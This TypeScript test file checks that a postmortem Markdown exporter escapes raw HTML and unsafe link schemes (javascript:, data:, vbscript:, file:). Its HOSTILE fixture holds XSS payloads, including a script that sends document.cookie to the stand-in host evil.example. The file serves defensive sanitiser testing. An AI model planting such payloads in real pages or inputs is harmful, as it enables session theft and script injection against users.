import { remark } from 'remark';
import remarkGfm from 'remark-gfm';
import { describe, expect, it } from 'vitest';
import type { Postmortem } from '../incident/model.ts';
import { postmortemMarkdown, safeSectionMarkdown } from './export.ts';
import { isSafeUrl } from './markdown-escape.ts';

interface Node {
  type: string;
  url?: string;
  value?: string;
  children?: Node[];
}
function all(md: string): Node[] {
  const out: Node[] = [];
  const stack = [remark().use(remarkGfm).parse(md) as unknown as Node];
  while (stack.length) {
    const n = stack.pop()!;
    out.push(n);
    for (const c of n.children ?? []) stack.push(c);
  }
  return out;
}
/** What a Markdown renderer would make live: raw HTML and link/image/definition targets. */
function live(md: string) {
  const nodes = all(md);
  return {
    html: nodes.filter((n) => n.type === 'html').map((n) => n.value),
    urls: nodes.filter((n) => n.url !== undefined).map((n) => n.url!),
  };
}

const HOSTILE: Record<string, string> = {
  script: '<script>alert(1)</script>',
  scriptBlock: 'intro\n\n<script>\nfetch("https://evil.example/?c=" + document.cookie)\n</script>\n\nafter',
  img: 'see <img src=x onerror="alert(1)"> here',
  jsLink: '[click me](javascript:alert(1))',
  jsLinkEncoded: '[click](jav&#x61;script:alert(1)) and [tab](java%09script:x) [sp]( JAVASCRIPT:alert(1) )',
  dataLink: '[pic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  dataImage: '![chart](data:image/svg+xml,<svg onload=alert(1)>)',
  jsImage: '![x](javascript:alert(1))',
  autolink: 'go <javascript:alert(1)> or <data:text/html,hi> or <vbscript:msgbox>',
  reference: '[docs][evil]\n\n[evil]: javascript:alert(1) "title"',
  referenceData: '![logo][d]\n\n[d]: <data:text/html,x>',
  comment: 'before <!-- <script>alert(1)</script> --> after',
  cdata: '<![CDATA[ <script>alert(1)</script> ]]>',
  processing: '<?php echo 1; ?>',
  inTable: '| a | b |\n| --- | --- |\n| <b onclick=x>bold</b> | [x](javascript:y) |',
  nested: '**[*x*](javascript:alert(1))** and `<script>` in code stays code',
};

describe('postmortem.md: hostile edited sections', () => {
  for (const [name, body] of Object.entries(HOSTILE)) {
    it(`${name}: no raw HTML and no unsafe link survives the export`, () => {
      // The premise: unsanitised, each case is live HTML or an unsafe link.
      const before = live(body);
      expect(before.html.length + before.urls.filter((u) => !isSafeUrl(u)).length).toBeGreaterThan(0);
      const out = safeSectionMarkdown(body);
      const after = live(out);
      expect(after.html).toEqual([]);
      expect(after.urls.filter((u) => !isSafeUrl(u))).toEqual([]);
      // Idempotent: exporting the exported text again changes nothing.
      expect(safeSectionMarkdown(out)).toBe(out);
    });
  }

  it('keeps the text visible (escaped), not deleted', () => {
    const md = safeSectionMarkdown(HOSTILE.img);
    expect(md).toBe('see &lt;img src=x onerror="alert(1)"&gt; here');
    expect(safeSectionMarkdown(HOSTILE.jsLink)).toBe('\\[click me\\](javascript:alert(1))');
    expect(safeSectionMarkdown(HOSTILE.jsImage)).toBe('x');
    // Rendered back, the words are there as text.
    const text = all(safeSectionMarkdown(HOSTILE.script))
      .filter((n) => n.type === 'text')
      .map((n) => n.value)
      .join('');
    expect(text).toBe('<script>alert(1)</script>');
  });

  it('leaves safe Markdown byte for byte: web, mail, relative, anchors, evidence links, code, <br> in cells', () => {
    const safe = [
      '- [Grafana](https://grafana.example/d/1?x=1&y=2) and <https://example.com/a>',
      '- mail [oncall](mailto:oncall@example.com), chart ![heap](heap-over-time.svg), [up](#impact)',
      '- evidence [heap-3.bin](pmwb://artifact/a-1/heap/7)',
      '',
      '| cell | other |',
      '| --- | --- |',
      '| one<br>two | `a<b>` |',
      '',
      '```html',
      '<script>kept as code</script>',
      '```',
    ].join('\n');
    expect(safeSectionMarkdown(safe)).toBe(safe);
  });

  it('the whole document: an edited section cannot inject into postmortem.md', () => {
    const pm: Postmortem = {
      lang: 'en',
      title: '<img src=x onerror=alert(1)>',
      date: '2026-11-28',
      authors: ['<b>me</b>'],
      status: 'draft',
      sections: Object.entries(HOSTILE).map(([, body], i) => ({
        id: (['summary', 'impact', 'trigger', 'detection', 'resolution', 'went-well', 'went-wrong'] as const)[
          i % 7
        ],
        body,
        edited: true,
      })),
    };
    const md = postmortemMarkdown(pm);
    const after = live(md);
    expect(after.html).toEqual([]);
    expect(after.urls.filter((u) => !isSafeUrl(u))).toEqual([]);
  });

  it('isSafeUrl: schemes by allowlist, controls ignored', () => {
    for (const u of [
      'https://x',
      'http://x',
      'mailto:a@b',
      'pmwb://artifact/a',
      'chart.svg',
      './a/b',
      '#top',
      '?q',
    ])
      expect(isSafeUrl(u)).toBe(true);
    for (const u of [
      'javascript:alert(1)',
      'JaVaScRiPt:x',
      ' javascript:x',
      'java\tscript:x',
      'data:text/html,x',
      'vbscript:x',
      'file:///etc/passwd',
    ])
      expect(isSafeUrl(u)).toBe(false);
  });
});
